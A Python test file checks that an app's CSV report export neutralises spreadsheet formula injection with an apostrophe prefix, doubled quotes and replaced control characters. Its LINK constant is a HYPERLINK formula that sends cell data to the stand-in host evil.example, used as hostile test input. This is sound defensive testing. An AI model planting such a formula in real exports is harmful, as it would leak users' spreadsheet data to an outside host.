"""CSV of a report in a spreadsheet: what people wrote stays text, amounts stay numbers."""

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.cli import spreadsheet
from app.context import now
from app.db import Database
from tests.cli.conftest import Command
from tests.support import factories
from tests.support.factories import Tenant

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
ODD = "=+-@\uff1d\uff0b\uff0d\uff20;,|\t\r\n\"' a1"


def cell(value: Any) -> str:
    """Return what `value` becomes, as written."""
    return spreadsheet.render([{"name": value}], ["name"]).removeprefix('"name"\n').removesuffix("\n")


class TestText:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
    @pytest.mark.parametrize("before", ["", " ", "\u00a0 ", '"', ' "'])
    def test_an_apostrophe_precedes_a_formula(self, before: str, start: str) -> None:
        (row,) = list(csv.reader(io.StringIO(cell(f"{before}{start}1"), newline="")))[:1]

        assert row[0] == f"'{before}{start}1"

    @pytest.mark.parametrize("delimiter", [";", "|", "\t", "\n", "\r"])
    def test_an_apostrophe_precedes_a_formula_after_another_delimiter(self, delimiter: str) -> None:
        assert cell(f"Foo{delimiter}=1+1") == f'"Foo{delimiter}\'=1+1"'

    def test_text_is_quoted_and_its_quotation_marks_are_doubled(self) -> None:
        assert cell(LINK) == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"'

    @pytest.mark.parametrize("value", ["Müller & Co", "a=b", "M8 - 20", "1-2", "me@example.com", "'quoted'", ""])
    def test_harmless_text_is_unchanged(self, value: str) -> None:
        assert cell(value) == f'"{value}"'

    @pytest.mark.parametrize("character", ["\0", "\x1b", "\x7f", "\x9b"])
    def test_control_characters_are_replaced(self, character: str) -> None:
        assert cell(f"a{character}[31mb") == '"a\N{REPLACEMENT CHARACTER}[31mb"'

    @given(st.lists(st.text(ODD, max_size=12), min_size=1, max_size=4), st.sampled_from(",;\t|"))
    def test_no_delimiter_turns_text_into_a_formula(self, values: list[str], delimiter: str) -> None:
        row = {"id": 1} | {f"c{number}": value for number, value in enumerate(values)}

        written = spreadsheet.render([row], list(row))

        for cells in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
            assert not [text for text in cells if re.match('[\\s"]*[=+\\-@\uff1d\uff0b\uff0d\uff20]', text)]

    @given(st.text(st.characters(exclude_categories=["Cc", "Cs"])))
    def test_no_character_is_lost(self, value: str) -> None:
        ((read,),) = csv.reader(io.StringIO(cell(value), newline=""))

        assert read.replace("'", "") == value.replace("'", "")


class TestNumber:
    @pytest.mark.parametrize(
        ("value", "written"),
        [(-5, "-5"), (0, "0"), (-12.5, "-12.50"), (1e12, "1000000000000.00"), (0.1, "0.10"), (True, '"true"')],
    )
    def test_numbers_are_not_quoted(self, value: Any, written: str) -> None:
        assert cell(value) == written

    def test_null_is_an_empty_cell(self) -> None:
        assert cell(None) == '""'


class TestReports:
    """Every command with `--csv`."""

    @pytest.fixture
    def attacked(self, fresh_database: Database, shop: Tenant) -> Tenant:
        """Return a company whose texts are all formulas."""
        company = shop.company_id
        customer = factories.customer(fresh_database, company, name=LINK, email="-2+3@example.com")
        factories.history(
            fresh_database, company, [{"customer_id": customer, "total": Decimal("7.50"), "created_at": now()}]
        )
        factories.product(fresh_database, company, name="@SUM(1)", sku="+1", category="-1+1", stock=3)
        return shop

    def rows(self, distribu: Command, *arguments: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(distribu("report", *arguments, "--csv").out)))

    def test_customers(self, distribu: Command, attacked: Tenant) -> None:
        (row,) = self.rows(distribu, "customers", "--company", attacked.slug)

        assert (row["name"], row["email"]) == ("'" + LINK, "'-2+3@example.com")
        assert NUMBER.fullmatch(row["revenue"])

    def test_inventory(self, distribu: Command, attacked: Tenant) -> None:
        (row,) = self.rows(distribu, "inventory", "--company", attacked.slug)

        assert (row["name"], row["sku"], row["category"], row["stock"]) == ("'@SUM(1)", "'+1", "'-1+1", "3")

    def test_sales(self, distribu: Command, attacked: Tenant) -> None:
        for row in self.rows(distribu, "sales", "--company", attacked.slug):
            assert NUMBER.fullmatch(row["orderCount"])
            assert NUMBER.fullmatch(row["revenue"])
